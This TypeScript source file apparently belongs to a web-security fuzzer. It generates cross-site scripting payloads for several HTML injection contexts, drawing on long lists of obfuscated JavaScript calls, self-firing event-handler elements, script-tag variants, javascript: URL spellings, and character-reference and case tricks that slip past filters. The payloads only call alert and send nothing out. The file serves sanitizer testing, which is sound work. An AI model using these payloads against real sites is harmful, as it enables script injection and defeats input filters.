// Attacks on a page, rewritten so that a browser still runs them: other elements, events, blanks, quotes,
// character references, and other ways to call the same function.
import type { Random } from './random.ts';

/** How a page holds the value; `$` stands for it. */
export interface MarkupContext {
  readonly name:
    | 'text'
    | 'double'
    | 'single'
    | 'unquoted'
    | 'script-single'
    | 'script-double'
    | 'url'
    | 'raw';
  readonly page: string;
}

export const MARKUP_CONTEXTS: readonly MarkupContext[] = [
  { name: 'text', page: '<p>$</p>' },
  { name: 'text', page: '<ul><li>$</li></ul>' },
  { name: 'double', page: '<input type="text" value="$">' },
  { name: 'single', page: "<input type='text' value='$'>" },
  { name: 'unquoted', page: '<input type=text value=$ >' },
  { name: 'script-single', page: "<script>var name = '$'; done = 1;</script>" },
  { name: 'script-double', page: '<script>var name = "$"; done = 1;</script>' },
  { name: 'url', page: '<a href="$">x</a>' },
  { name: 'raw', page: '<textarea>$</textarea>' },
];

const CALLS: readonly string[] = [
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  'alert?.(1)',
  'alert.call(0,1)',
  'alert.apply(0,[1])',
  "window['alert'](1)",
  "self['al'+'ert'](1)",
  "globalThis['a'+'lert'](1)",
  'this.alert(1)',
  "window['\\x61lert'](1)",
  '\\u0061lert(1)',
  'al\\u{65}rt(1)',
  'confirm(1)',
  'prompt(1)',
  "eval('alert(1)')",
  "eval('al'+'ert(1)')",
  "eval(atob('YWxlcnQoMSk='))",
  "Function('alert(1)')()",
  "new Function('alert(1)')()",
  '[1].map(alert)',
  '[1].find(alert)',
  "setTimeout('alert(1)')",
  'setTimeout(alert)',
  'Reflect.apply(alert,0,[1])',
  '(a=alert,a(1))',
  'a=alert,a(1)',
  'void(alert(1))',
  '!alert(1)',
  '~alert(1)',
  '+alert(1)',
  'new alert(1)',
  "[]['constructor']['constructor']('alert(1)')()",
  'eval(String.fromCharCode(97,108,101,114,116,40,49,41))',
  "window[atob('YWxlcnQ=')](1)",
  "top['alert']?.(1)||alert(1)",
  "self[Object.keys(self).find(k=>k=='alert')||'alert'](1)",
  "''.constructor.constructor('alert(1)')()",
  'queueMicrotask(alert)',
  '(()=>alert(1))()',
  '(function(){alert(1)})()',
  'with(window)alert(1)',
  'if(1)alert(1)',
  'alert(document.domain)',
  'window[Object.getOwnPropertyNames(window).filter(n=>/^aler/.test(n))[0]](1)',
  'top[8680439..toString(30)]||alert(1)',
  'self[/al/.source+/ert/.source](1)',
  "this['a'.concat('lert')](1)",
  "self[['al','ert'].join('')](1)",
  "frames['alert'](1)",
  'parent.x??alert(1)',
  'setTimeout`alert\\x281\\x29`',
  "setTimeout('al'+'ert(1)',1)",
  'requestAnimationFrame(alert)',
  'Promise.resolve(1).then(alert)',
  '[1].forEach(alert)',
  '[1].some(alert)',
  'Array.from([1],alert)',
  'new Map([[1,1]]).forEach(alert)',
  "'1'.replace(/1/,alert)",
  '({valueOf:alert})+1',
  '`${alert(1)}`',
  'onerror=alert;throw 1',
  '{onerror=alert}throw 1',
  'throw onerror=alert,1',
  'try{x()}catch(e){alert(1)}',
  'do{alert(1)}while(0)',
  'for(;;){alert(1);break}',
  'switch(alert(1)){}',
  'var{a:a=alert}={};a(1)',
  'let f=alert;f(1)',
  'alert\n(1)',
  'alert/**/(1)',
  '/*x*/alert(1)',
  '(1,alert)(1)',
  '(0?0:alert)(1)',
  'typeof alert(1)',
  'delete alert(1)',
  'async()=>0;alert(1)',
  'class x{static{alert(1)}}',
  "import('data:text/javascript,alert(1)');alert(1)",
  'Function`alert\\x281\\x29```',
  'constructor.constructor`alert\\x281\\x29```',
  'document.defaultView.alert(1)',
  'Function.prototype.call.call(alert,0,1)',
  'alert.bind(0,1)()',
  "document.body.innerHTML='<img src=x onerror=alert(1)>'",
  "eval(unescape('%61lert(1)'))",
  "eval(decodeURIComponent('alert%281%29'))",
  "eval('\\141lert(1)')",
];
/** Elements with an event that needs nobody: some load, some fail to, some take the focus. */
const ELEMENTS: readonly string[] = [
  'img_src=x_onerror=CALL',
  'svg_onload=CALL',
  'body_onload=CALL',
  'input_autofocus_onfocus=CALL',
  'details_open_ontoggle=CALL',
  'video_src=x_onerror=CALL',
  'audio_src=x_onerror=CALL',
  'iframe_onload=CALL',
  'select_autofocus_onfocus=CALL',
  'textarea_autofocus_onfocus=CALL',
  'image_src=x_onerror=CALL',
  'style_onload=CALL',
  'object_data=x_onerror=CALL',
  'x_onclick=CALL',
  'div_onmouseover=CALL',
  'a_href=javascript:CALL',
  'button_onclick=CALL',
  'b_onpointerenter=CALL',
  'p_onmouseenter=CALL',
  'xss_onpointerover=CALL',
  'marquee_onclick=CALL',
  'form_onclick=CALL',
  'svg_onclick=CALL',
  'custom-tag_onmouseover=CALL',
  'label_onmousedown=CALL',
  'td_onclick=CALL',
  'iframe_src=javascript:CALL',
  'div_tabindex=1_onfocus=CALL_autofocus',
  'summary_onmouseup=CALL',
  'embed_src=javascript:CALL',
  'frameset_onload=CALL',
  'link_rel=stylesheet_href=x_onerror=CALL',
  'script_src=x_onerror=CALL',
  'input_type=image_src=x_onerror=CALL',
  'video_onerror=CALL_src=x',
  'video_src=x_autoplay_onloadstart=CALL',
  'audio_onloadstart=CALL_src=x',
  'a_href=#_onfocus=CALL_autofocus',
  'keygen_autofocus_onfocus=CALL',
  'button_autofocus_onfocus=CALL',
  'math_onclick=CALL',
  'h1_onmouseover=CALL',
  'a_href=x_onclick=CALL',
  'div_style=display:block_onmouseenter=CALL',
  'i_class=a_onmousedown=CALL',
  'xmp_onclick=CALL',
  'noscript_onclick=CALL',
  'svg_id=x_onload=CALL',
  'isindex_onclick=CALL',
  'details_ontoggle=CALL_open=x',
  'dialog_open_onclick=CALL',
  'output_contenteditable_onclick=CALL',
  'form_action=javascript:CALL',
];
const SCRIPTS: readonly string[] = [
  '<script>CALL</script>',
  '<script >CALL</script >',
  '<script/x>CALL</script/x>',
  '<script\n>CALL</script\n>',
  '<svg><script>CALL</script>',
  '<script src=data:,CALL></script>',
  '<script async=1>CALL</script>',
  '<script type=module>CALL</script>',
  '<svg><script href=data:,CALL />',
  '<script>//\nCALL</script>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><set onbegin=CALL attributename=x>',
  '<video><source onerror=CALL src=x></video>',
  '<iframe srcdoc="<script>parent.postMessage(0)</script>">',
  '<math><mtext><img src=x onerror=CALL></mtext></math>',
  '<template></template><img src=x onerror=CALL>',
  '<noscript></noscript><svg onload=CALL>',
  '<table><td><img src=x onerror=CALL></table>',
  '<script src="data:text/javascript,CALL"></script>',
  '<script>/*x*/CALL/*</script>*/</script>',
  '<script>\u2028CALL</script>',
  '<script defer>CALL</script>',
  '<script nonce=x>CALL</script>',
  '<script type=text/javascript>CALL</script>',
  '<script type="">CALL</script>',
  '<script language=javascript>CALL</script>',
  '<svg><g onload=CALL></g></svg>',
  '<svg><script>CALL</script></svg>',
  '<svg/onload=CALL>',
  '<svg><image href=x onerror=CALL>',
  '<svg><a href=javascript:CALL><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=CALL></style></svg>',
  '<math><style><img src=x onerror=CALL></style></math>',
  '<form><button formaction=javascript:CALL>x</button></form>',
  '<form action=javascript:CALL><input type=submit></form>',
  '<object data=javascript:CALL></object>',
  '<iframe srcdoc="<svg onload=parent.postMessage(0)>"></iframe>',
  '<img srcset=x onerror=CALL>',
  '<picture><source srcset=x><img onerror=CALL src=x></picture>',
  '<img src="x" alt=">" onerror=CALL>',
  '<img src=x:x onerror=CALL x=',
  '<a><img src=x onerror=CALL></a>',
  '<title><img></title><img src=x onerror=CALL>',
  '<!--><img src=x onerror=CALL>-->',
  '<!--x--!><img src=x onerror=CALL>',
  '<?x><img src=x onerror=CALL>',
  '<!x><img src=x onerror=CALL>',
  '</x><img src=x onerror=CALL>',
  '<base href=javascript:/a/-CALL//><a href=#>x</a>',
  '<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=CALL>x</b>',
  '<video><track></video><img src=x onerror=CALL>',
];
const BLANKS = [' ', '\n', '\t', '/', '  ', '\r\n', '\f', ' / ', '/ /'] as const;
const URL_SPELLINGS = [
  'javascript:',
  'JavaScript:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\x01javascript:',
  'javascript\t:',
  'javascript://x%0a',
  'javascript:/**/',
  'javascript:void 0;',
  'javascript:%20',
] as const;

/** One attack for the context; not every one works, which is for the browser to say. */
export function makeMarkupMutant(random: Random, { name }: MarkupContext): string {
  const place: string = name;
  switch (place) {
    case 'double':
    case 'single': {
      const quote = place === 'double' ? '"' : "'";
      return random.chance(0.5)
        ? `x${quote}${random.pick(['>', ' >', '/>', '\n>'])}${makeElement(random)}`
        : `x${quote}${random.pick([' ', '\n', '/', '\t'])}${random.pick(['autofocus onfocus', 'onclick', 'onmouseover', 'onpointerenter', 'ONCLICK', 'oNfocus'])}=${quote}${attribute(random, makeCall(random), quote)}${random.chance(0.5) ? '' : `${quote} x=${quote}`}`;
    }
    case 'unquoted':
      return random.chance(0.5)
        ? `x>${makeElement(random)}`
        : `x ${random.pick(['autofocus onfocus', 'onclick', 'onmouseover'])}=${bare(makeCall(random))}`;
    case 'script-single':
    case 'script-double': {
      const quote = place === 'script-double' ? '"' : "'";
      const call = makeCall(random).replaceAll(quote, quote === '"' ? "'" : '"');
      if (random.chance(0.25)) return `</script>${makeElement(random)}`;
      return random.pick([
        `${quote};${call}//`,
        `${quote};${call};${quote}`,
        `${quote}-${expression(call)}-${quote}`,
        `${quote}+${expression(call)}+${quote}`,
        `${quote},${expression(call)},x=${quote}`,
        `${quote}\n${call}//`,
        `x${quote};\n${call}\n//`,
        `${quote}/${expression(call)}/${quote}`,
        `${quote}?${expression(call)}:${expression(call)}//`,
        `${quote}||${expression(call)}//`,
      ]);
    }
    case 'url':
      return attribute(random, `${random.pick(URL_SPELLINGS)}${makeCall(random)}`, '"');
    case 'raw':
      return `</textarea>${makeElement(random)}`;
    default:
      return `${random.pick(['', 'x', '"', "'>", '<b>', '<!-- -->', '</p>'])}${makeElement(random)}`;
  }
}

function makeCall(random: Random): string {
  return random.pick(CALLS);
}

/** An assignment is an operand only in parentheses. */
function expression(call: string): string {
  return /^(?:if|with|a=|[!~+]|new )/.test(call) ? '(0,alert)(1)' : call;
}

function makeElement(random: Random): string {
  const call = makeCall(random);
  if (random.chance(0.25)) {
    return fold(random, random.pick(SCRIPTS)).replace(/CALL/i, () => call);
  }
  const [tag = '', ...parts] = random.pick(ELEMENTS).split('_');
  const quote = random.pick(['"', "'", '', '']);
  const blank = (): string => (random.chance(0.6) ? ' ' : random.pick(BLANKS));
  const written = parts.map((part) => {
    const value = part.replace('CALL', () => call);
    const equals = value.indexOf('=');
    if (equals < 0 || !part.includes('CALL')) return fold(random, value);
    const name = fold(random, value.slice(0, equals));
    const text = value.slice(equals + 1);
    const held = quote === '' ? bare(text) : quote + attribute(random, text, quote) + quote;
    return `${name}${random.pick(['=', '=', ' = ', '=\n', '\t='])}${held}`;
  });
  const end = random.pick(['>', '>', '>x', ' >', '/>', '//>', '\n>', '>click']);
  return `<${fold(random, tag)}${written.map((part) => blank() + part).join('')}${end}`;
}

/** Without quotes a value holds no blank and no quote or bracket of its own. */
function bare(text: string): string {
  return text.replace(/[\s"'`<>=]/g, (character) => `&#${character.charCodeAt(0)};`);
}

/** Inside quotes the quote itself is written as a reference, and other characters may be. */
function attribute(random: Random, text: string, quote: string): string {
  const share = random.pick([0, 0, 0, 0.3, 1]);
  return Array.from(text)
    .map((character) => {
      const code = character.charCodeAt(0);
      if (character === quote) return quote === '"' ? '&quot;' : '&#39;';
      if (!random.chance(share)) return character;
      return random.pick([
        `&#${code};`,
        `&#x${code.toString(16)};`,
        `&#0000${code};`,
        `&#X${code.toString(16).toUpperCase()};`,
      ]);
    })
    .join('');
}

/** The case of letters of names does not matter to HTML. */
function fold(random: Random, text: string): string {
  if (!random.chance(0.4)) return text;
  return text.replace(/(?<![\w.])(?!CALL)[a-z-]{2,}/g, (word) =>
    Array.from(word)
      .map((letter) => (random.chance(0.5) ? letter.toUpperCase() : letter))
      .join(''),
  );
}
